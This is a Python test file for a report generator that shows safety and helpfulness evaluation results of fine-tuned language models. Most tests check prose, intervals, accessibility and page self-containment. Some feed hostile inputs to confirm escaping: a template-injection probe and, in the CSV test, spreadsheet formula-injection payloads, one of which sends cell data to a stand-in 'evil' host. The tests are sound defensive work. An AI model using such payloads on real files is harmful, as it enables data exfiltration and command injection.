"""What the page shows, and that it is self-contained, accessible and safe."""

import base64
import csv
import hashlib
import json
import re
import shutil
import subprocess
import sys

from bfpo.evaluation.results import METRIC_COLUMNS, read_results
from bfpo.report.card import card_section
from bfpo.report.run_files import read_runs
from bfpo.report.words import MISSING, format_number, format_signed

from .fake_runs import (
    HOSTILE,
    JUDGE,
    SCRIPT,
    change_results,
    judge_prompts,
    make_prompts,
    read_content,
    write_evaluation,
    write_training,
)
from .page import draw, read_lines


def test_summary_reports_the_numbers(two_runs):
    prose = two_runs.page.prose
    baseline, trained = (read_results(folder / "evaluation") for folder in two_runs.runs)
    for task, name, sentence in (
        ("harmful", "safety", "Safety on 40 harmful held-out prompts rose from {} to {} (better)"),
        (
            "lookalike",
            "over_refusal",
            "Over-refusal on 40 benign prompts that look harmful rose from {} to {} (worse)",
        ),
    ):
        metrics = [results.metric(task, name) for results in (baseline, trained)]
        values = [f"{metric.value:.2f} [{metric.low:.2f}, {metric.high:.2f}]" for metric in metrics]
        assert sentence.format(*values) in prose
    assert "bfpo is safer than base; their helpfulness is not distinguishable." in prose
    safety = trained.metric("harmful", "safety")
    assert safety.unscored
    assert f"{safety.unscored} answer" in prose
    assert f"{safety.unscored} undecided: {safety.least:.2f} to {safety.most:.2f}" in prose
    assert "do not include the variation between training seeds" in prose


def test_summary_reports_changes_for_the_worse(tmp_path, small_runs):
    comparisons = read_content(small_runs[1])["comparisons"]
    for comparison in comparisons:
        comparison["verdict"] = comparison["verdict"] and "worse"
    change_results(small_runs[1], comparisons=comparisons)
    prose = draw(tmp_path / "out", small_runs).page.prose
    assert "bfpo is less safe and less helpful than base." in prose
    assert "Also worse: severity on harmful prompts" in prose
    assert "distinguishably worse" not in prose


def test_suites_that_disagree_have_no_common_headline(tmp_path, small_runs):
    for folder in small_runs:
        content = read_content(folder)
        names = ("safety", "helpfulness")
        metrics = [{**row, "suite": "mine"} for row in content["metrics"] if row["metric"] in names]
        comparisons = [
            {**row, "suite": "mine", "verdict": "worse"} for row in content["comparisons"] if row["metric"] in names
        ]
        change_results(folder, metrics=content["metrics"] + metrics, comparisons=content["comparisons"] + comparisons)
    prose = draw(tmp_path / "out", small_runs).page.prose
    assert "Against base, bfpo differs from suite to suite." in prose
    assert "mine: Safety on" in prose
    assert "testbed: Safety on" in prose


def test_runs_with_different_prompts_are_compared_on_those_of_both(tmp_path):
    prompts = make_prompts()
    few = [prompt for prompt in prompts if int(prompt.prompt_id[-3:]) < 10]
    base = judge_prompts(few, safe=0.2, helpful=0.5, refusing=0.1, seed=1)
    write_evaluation(tmp_path / "base/evaluation", "base", few, base)
    trained = judge_prompts(prompts, safe=0.95, helpful=0.5, refusing=0.1, seed=2)
    write_evaluation(tmp_path / "bfpo/evaluation", "bfpo", prompts, trained, baseline=base)
    prose = draw(tmp_path / "out", [tmp_path / "base", tmp_path / "bfpo"]).page.prose
    results = read_results(tmp_path / "bfpo/evaluation")
    [difference] = [other for other in results.comparisons if (other.task, other.metric) == ("harmful", "safety")]
    assert difference.n == 10
    assert "Safety on harmful prompts is " in prose
    assert " for base (10 prompts) and " in prose
    shared = f"for bfpo (40); on the 10 that both answered the difference is {format_signed(difference.difference)}"
    assert f"{shared} (better)." in prose
    assert "Safety on 40 harmful" not in prose


def test_every_metric_is_in_the_table_with_its_interval(two_runs):
    prose = two_runs.page.prose
    for folder in two_runs.runs:
        for metric in read_results(folder / "evaluation").metrics:
            interval = f"[{format_number(metric.low)}, {format_number(metric.high)}]"
            assert f"{format_number(metric.value)} {interval}" in prose
    for comparison in read_results(two_runs.runs[1] / "evaluation").comparisons:
        assert f"{format_signed(comparison.difference)} {comparison.verdict or ''}".strip() in prose
        assert f"[{format_signed(comparison.low)}, {format_signed(comparison.high)}]" in prose
    assert all(label in prose for label in ("Over-refusal", "Severity", "Malformed", "Cut off"))


def test_texts_of_models_and_files_are_escaped(tmp_path, small_runs):
    change_results(small_runs[0], run=SCRIPT, model=HOSTILE, judges=[{"name": HOSTILE, "revision": "x"}])
    # With only the prompt whose texts are hostile, that prompt is always among those shown.
    for folder in small_runs:
        for name in ("prompts", "completions", "verdicts"):
            path = folder / "evaluation" / f"{name}.jsonl"
            path.write_text("".join(f"{line}\n" for line in read_lines(path) if "harmful-000" in line))
    page = draw(tmp_path / "out", small_runs, title=HOSTILE, note=HOSTILE).page
    assert [tag for tag, _ in page.tags if tag in ("script", "img")] == ["script"]
    assert "{{ 7*7 }}" in page.text
    # Title twice, note, model, judge, recipes, prompt, and two answers.
    assert page.text.count(HOSTILE) >= 8
    assert len(page.ids()) == len(set(page.ids()))


def test_page_is_self_contained(two_runs):
    page = two_runs.page
    assert not {"link", "img", "iframe", "object", "base"} & {tag for tag, _ in page.tags}
    for tag, attrs in page.tags:
        assert "src" not in attrs
        assert not any(name.startswith("on") for name in attrs)
        assert attrs.get("href", "#").startswith("#"), tag
    assert {attrs["href"][1:] for tag, attrs in page.tags if tag == "a"} <= set(page.ids())
    style = re.search(r"<style>(.*?)</style>", two_runs.html, re.DOTALL)[1]
    assert "url(" not in style
    assert "@import" not in style
    policy = next(attrs["content"] for _, attrs in page.tags if attrs.get("http-equiv") == "Content-Security-Policy")
    assert policy.startswith("default-src 'none'; style-src 'unsafe-inline'")
    script = re.search(r"<script>(.*?)</script>", two_runs.html, re.DOTALL)[1]
    digest = base64.b64encode(hashlib.sha256(script.encode()).digest()).decode()
    assert f"script-src 'sha256-{digest}';" in policy


def test_page_has_names_for_screen_readers(two_runs):
    page = two_runs.page
    ids = set(page.ids())
    for tag, attrs in page.tags:
        for name in (attrs.get("aria-labelledby") or "").split():
            assert name in ids
        assert tag != "th" or attrs.get("scope")
        assert tag != "svg" or (attrs["role"] == "img" and attrs["aria-labelledby"])
    assert [int(tag[1]) for tag, _ in page.tags if tag in ("h1", "h2")][:2] == [1, 2]
    # Boxes that scroll can be reached from the keyboard.
    assert all("tabindex" in attrs for _, attrs in page.tags if "scroll" in (attrs.get("class") or "").split())


def test_answers_are_folded_and_include_failures(two_runs):
    page = two_runs.page
    assert all("open" not in attrs for tag, attrs in page.tags if tag == "details")
    assert page.text.count("shown as a failure") >= 2
    verdicts = [json.loads(line) for line in read_lines(two_runs.runs[1] / "evaluation" / "verdicts.jsonl")]
    failures = sum(row["safe"] is not True or row["malformed"] for row in verdicts if "harmful-" in row["prompt_id"])
    assert f"4 of 40 shown; unsafe, undecided or malformed: bfpo {failures}" in page.prose


def test_labels_and_curves_come_from_the_training_record(two_runs):
    prose = two_runs.page.prose
    assert "loss bfpo, beta 0.05" in prose
    assert "−1 prefer the safe answer, though it is less helpful us: target −20 nats, final margin" in prose
    assert "target +20" in prose
    assert "no pairs of this cell in the log" in prose
    assert prose.count("loss of each stream") >= 1


def test_corrected_labels_are_those_that_pairs_of_a_judge_are_trained_on(tmp_path, small_runs):
    errors = {"sensitivity": 0.9, "specificity": 0.8}
    write_training(small_runs[1], "train", {"name": "bfpo", "beta": 0.05, "graded": True, "label_errors": errors})
    prose = draw(tmp_path / "out", small_runs).page.prose
    judged, _, others = prose.partition("pairs that a judge labeled, corrected for its errors")[2].partition(
        "other pairs"
    )
    assert "(sensitivity 0.9, specificity 0.8); the label of two versions of one answer is multiplied" in judged
    for target in ("+12.86", "+27.14", "−30", "−15.71"):
        assert f"target {target} nats" in judged
    for target in ("+10", "+20", "−20", "−10"):
        assert f"target {target} nats" in others


def test_loss_without_a_label_table_is_described(tmp_path, small_runs):
    write_training(small_runs[1], "train", {"name": "dpo", "beta": 0.1})
    prose = draw(tmp_path / "out", small_runs).page.prose
    assert "trained with the loss dpo, which has no label table" in prose
    assert "this loss has no target" in prose
    write_training(small_runs[1], "train", {"name": "somewhere:Loss"})
    assert "a custom loss" in draw(tmp_path / "out", small_runs).page.prose
    assert "somewhere" not in sys.modules


def test_one_run_is_shown_without_comparisons(one_run):
    prose = one_run.page.prose
    assert "Safety on 40 harmful held-out prompts is" in prose
    assert "rose" not in prose
    assert "difference" not in prose
    assert "Pareto" not in prose
    assert 'id="model-comparisons"' not in one_run.html


def test_several_runs_are_on_one_plane(tmp_path, small_runs):
    runs = list(small_runs)
    for name, helpfulness in (("dpo", 0.3), ("bfpo", 0.4), ("safe_dpo", 0.5)):
        folder = shutil.copytree(small_runs[1], small_runs[0].parent / f"more-{name}")
        metrics = read_content(folder)["metrics"]
        (row,) = [row for row in metrics if (row["task"], row["metric"]) == ("benign", "helpfulness")]
        row |= {"value": helpfulness, "low": helpfulness - 0.05, "high": helpfulness + 0.05}
        change_results(folder, run=name, metrics=metrics)
        runs.append(folder)
    report = draw(tmp_path / "out", runs)
    # Two runs are called bfpo: their folders distinguish them.
    for name in ("bfpo (bfpo)", "bfpo (more-bfpo)", "dpo", "safe_dpo"):
        assert re.search(rf"{re.escape(name)} is |{re.escape(name)} and base are", report.page.prose), name
    assert "Pareto front" in report.page.prose
    assert (report.folder / "pareto.svg").read_text().count('class="head"') == 4
    assert len(list(csv.DictReader(read_lines(report.folder / "metrics.csv")))) == 5 * 18


def test_twelve_runs_are_rows(twelve_runs):
    page = twelve_runs.page
    assert [tag for tag, _ in page.tags if tag == "table"]
    assert "10 a-model-of-8b-step-10" in page.prose
    assert page.prose.count("Over-refusal lower is better; 8 prompts") >= 1


def test_missing_parts_are_left_out(tmp_path, small_runs):
    bare = tmp_path / "bare"
    bare.mkdir()
    shutil.copy(small_runs[1] / "evaluation" / "results.json", bare)
    page = draw(tmp_path / "out", [bare]).page
    assert "Learning curves" not in page.text
    assert "label" not in page.prose.lower()
    assert "No answers to show" in page.prose
    assert "no run.json" in page.prose


def test_missing_numbers_are_dashes(tmp_path, small_runs):
    metrics = read_content(small_runs[1])["metrics"]
    metrics[0] |= {"value": None, "low": None, "high": None}
    change_results(small_runs[1], metrics=metrics, comparisons=[])
    prose = draw(tmp_path / "out", small_runs).page.prose
    assert "Safety share of answers judged safe; undecided answers count as not safe; higher is better" in prose
    assert f" {MISSING} " in prose
    assert "Not drawn, because one of the two numbers is missing: bfpo." in prose
    assert "(not compared)" in prose


def test_the_same_runs_give_the_same_bytes(tmp_path, two_runs):
    again = draw(tmp_path / "again", two_runs.runs)
    names = {path.name for path in two_runs.folder.iterdir()}
    assert names == {"report.html", "report.md", "pareto.svg", "metrics.csv", "comparisons.csv"}
    for name in names:
        assert (two_runs.folder / name).read_bytes() == (again.folder / name).read_bytes()


def test_csv_tables_contain_unrounded_numbers(two_runs):
    rows = list(csv.DictReader(read_lines(two_runs.folder / "metrics.csv")))
    assert tuple(rows[0]) == ("run", *METRIC_COLUMNS)
    values = {(row["run"], row["task"], row["metric"]): float(row["value"]) for row in rows}
    for name, folder in zip(("base", "bfpo"), two_runs.runs, strict=True):
        for metric in read_results(folder / "evaluation").metrics:
            assert values[name, metric.task, metric.metric] == metric.value
    rows = list(csv.DictReader(read_lines(two_runs.folder / "comparisons.csv")))
    comparisons = read_results(two_runs.runs[1] / "evaluation").comparisons
    assert [float(row["difference"]) for row in rows] == [comparison.difference for comparison in comparisons]
    assert {(row["run"], row["against"]) for row in rows} == {("bfpo", "base")}


def test_csv_tables_contain_no_formulas(tmp_path, small_runs):
    formulas = ['=HYPERLINK("http://evil/?"&A1,"x")', "@SUM(1)", "+A1", "-1|cmd", "\t=1", "\r=1"]
    harmless = ["+1", "-2.5e-3", "a=b", ""]
    content = read_content(small_runs[1])
    safety = next(row for row in content["metrics"] if row["metric"] == "safety")
    changes = {"run": formulas[0], "comparisons": [row | {"against": formulas[1]} for row in content["comparisons"]]}
    categories = [safety | {"category": category} for category in (*formulas, *harmless)]
    change_results(small_runs[1], metrics=[*content["metrics"], *categories], **changes)
    folder = draw(tmp_path / "out", small_runs).folder
    tables = []
    for name in ("metrics.csv", "comparisons.csv"):
        with (folder / name).open(encoding="utf-8", newline="") as file:
            tables.append(list(csv.DictReader(file)))
    assert {row["run"] for row in tables[0]} == {"base", f"'{formulas[0]}"}
    assert [row["category"] for row in tables[0][-10:]] == [f"'{formula}" for formula in formulas] + harmless
    assert {(row["run"], row["against"]) for row in tables[1]} == {(f"'{formulas[0]}", f"'{formulas[1]}")}
    # Numbers stay numbers.
    assert any(row["difference"].startswith("-") for row in tables[1])


def test_the_differences_that_are_counted_are_those_of_the_table(tmp_path, small_runs):
    report = draw(tmp_path / "out", small_runs)
    comparisons = read_content(small_runs[1])["comparisons"]
    shown = sum(row["verdict"] is not None for row in comparisons)
    assert f"The {shown} differences are tested separately" in report.page.prose
    change_results(
        small_runs[1], comparisons=[*comparisons, *(row | {"judge": "second"} for row in comparisons if row["judge"])]
    )
    assert f"The {shown} differences are tested" in draw(tmp_path / "second", small_runs).page.prose
    # Compared with a run that isn't on the page.
    change_results(small_runs[1], comparisons=[row | {"against": "other"} for row in comparisons])
    assert "are tested separately" not in draw(tmp_path / "other", small_runs).page.prose


def test_categories_of_two_suites_are_told_apart(tmp_path, small_runs):
    content = read_content(small_runs[1])
    safety = next(row for row in content["metrics"] if row["metric"] == "safety")
    rows = [safety | {"suite": suite, "category": "weapons"} for suite in ("strongreject", "testbed")]
    change_results(small_runs[1], metrics=[*content["metrics"], *rows])
    prose = draw(tmp_path / "out", small_runs[1:]).page.prose
    assert "weapons Safety, strongreject: harmful prompts" in prose
    assert "weapons Safety, testbed: harmful prompts" in prose


def test_different_judges_are_flagged(tmp_path, small_runs):
    change_results(small_runs[1], judges=[{"name": "another", "revision": "1"}])
    assert "judged by different judges" in draw(tmp_path / "out", small_runs).page.prose


def test_lone_surrogates_are_shown_escaped(tmp_path, small_runs):
    # The title only, since every text is encoded in the same place.
    assert "half \\ud83d here" in draw(tmp_path / "out", small_runs, title="half \ud83d here").page.text


def test_unknown_metrics_are_shown_by_name(tmp_path, small_runs):
    row = read_content(small_runs[1])["metrics"][0] | {"suite": "mine", "task": "odd", "metric": "strange_thing"}
    change_results(small_runs[1], metrics=[row], comparisons=[])
    report = draw(tmp_path / "out", small_runs[1:])
    assert "strange thing" in report.page.text
    assert "Neither safety on harmful prompts nor helpfulness" in report.page.prose
    assert not (report.folder / "pareto.svg").exists()


def test_further_judges_agreement_categories_and_warnings_are_shown(tmp_path, small_runs):
    content = read_content(small_runs[1])
    safety = next(row for row in content["metrics"] if row["metric"] == "safety")
    by_second = safety | {"judge": "second", "value": 0.42, "low": 0.3, "high": 0.5}
    agreement = {
        "judges": ["x", "second"], "question": "safe", "kappa": 0.37, "low": 0.2, "high": 0.5, "n": 40, "share": 0.7,
    }  # fmt: skip
    change_results(
        small_runs[1],
        judges=[*content["judges"], {"name": "second", "revision": "9", "circular": True}],
        metrics=[
            *content["metrics"],
            by_second,
            by_second | {"category": "arson | <b>", "value": 0.11, "low": 0.1, "high": 0.2},
        ],
        warnings=["calibrated on other models"],
        agreement=[agreement],
        data=[{"name": "a set", "license": "CC-BY-4.0", "hash": "abc", "prompts": 40}],
    )
    report = draw(tmp_path / "out", small_runs)
    prose = report.page.prose
    assert "bfpo: calibrated on other models" in prose
    assert "bfpo: Circular: second labeled" in prose
    assert "second circular" in prose
    assert "0.37 [0.20, 0.50]" in prose
    assert "arson | <b>" in prose
    text = (report.folder / "report.md").read_text()
    assert "| 0.37 \\[0.20, 0.50\\] |" in text
    assert "arson \\| &lt;b&gt;" in text
    assert "<b>" not in text
    section = card_section(small_runs[1])
    assert all(part in section for part in ("CC-BY-4.0", "0.42", "second", "1a2b3c4d", "Limitations", "calibrated"))


def test_composite_indices_are_shown_with_their_definitions(tmp_path, small_runs):
    for folder, value, recipe in (
        (small_runs[0], None, "no number, for want of safety on alert"),
        (small_runs[1], 0.6, "unweighted mean of safety on advbench, safety on alert"),
    ):
        row = {
            "suite": "paper", "task": "all", "metric": "harmlessness_index", "value": value, "n": 20, "unscored": 0,
            "low": value and 0.5, "high": value and 0.7, "interval": "i", "higher_is_better": True,
            "judge": "testbed-oracle", "recipe": recipe,
        }  # fmt: skip
        change_results(folder, metrics=[*read_content(folder)["metrics"], row])
    report = draw(tmp_path / "out", small_runs)
    definition = "Harmlessness index of paper: unweighted mean of safety on advbench, safety on alert."
    assert f"bfpo: {definition}" in report.page.prose
    assert f"bfpo: {definition}" in (report.folder / "report.md").read_text()
    assert "base: Harmlessness index of paper: no number, for want of safety on alert." in report.page.prose
    assert "0.60 [0.50, 0.70]" in report.page.prose
    section = card_section(small_runs[1])
    assert definition in section
    assert "paper: Harmlessness index" in section


def test_every_two_runs_are_compared(tmp_path, runs):
    prompts = make_prompts()
    third = runs[0].parent / "silent"
    silent = judge_prompts(prompts, safe=1.0, helpful=0.0, refusing=1.0, seed=3)
    write_evaluation(third, "silent", prompts, silent)
    report = draw(tmp_path / "out", [*runs, third])
    rows = [line for line in read_lines(report.folder / "report.md") if " prompts: " in line]
    verdicts = [[cell.strip() for cell in row.split("|")[1:4]] for row in rows]
    assert verdicts == [
        ["bfpo", "dominates", "base"],
        ["silent", "trade-off", "base"],
        ["silent", "dominated", "bfpo"],
    ]
    assert "safety on 40 harmful prompts: +" in rows[0]
    assert "helpfulness on 40 benign prompts: " in rows[0]
    assert "judged by testbed-oracle@1a2b3c4d. The p-values of all 6 tests are adjusted together" in report.page.prose
    # A run without completions cannot be compared.
    (third / "completions.jsonl").unlink()
    prose = draw(tmp_path / "out", [*runs, third]).page.prose
    assert "all 2 tests" in prose
    assert "Not compared: silent and base (no judge has verdicts on all answers of both)" in prose


def test_runs_that_cannot_be_compared_are_named(tmp_path, small_runs):
    (small_runs[0] / "evaluation" / "completions.jsonl").unlink()
    report = draw(tmp_path / "page", small_runs)
    reason = "Not compared: bfpo and base (no judge has verdicts on all answers of both)."
    assert reason in report.page.prose
    assert reason in (report.folder / "report.md").read_text()


def test_a_difference_is_that_of_the_judge_of_both_values(small_runs):
    """A baseline that only the second judge of a run judged has values of that judge."""
    baseline, run = (read_content(folder) for folder in small_runs)
    change_results(small_runs[0], metrics=[row | {"judge": "second"} for row in baseline["metrics"]])
    second = [row | {"judge": "second"} for row in run["comparisons"]]
    change_results(small_runs[1], comparisons=second)
    before, after = read_runs(small_runs)
    assert after.metric(("testbed", "harmful", "safety")).judge == JUDGE
    assert after.comparison(before, ("testbed", "harmful", "safety")) is None
    change_results(small_runs[1], metrics=[row | {"judge": "second"} for row in run["metrics"]])
    before, after = read_runs(small_runs)
    assert after.comparison(before, ("testbed", "harmful", "safety")).judge == "second"


def test_importing_the_report_loads_no_torch():
    script = "import sys, bfpo.report.html; assert not {'torch', 'transformers', 'matplotlib'} & set(sys.modules)"
    subprocess.run([sys.executable, "-c", script], check=True)
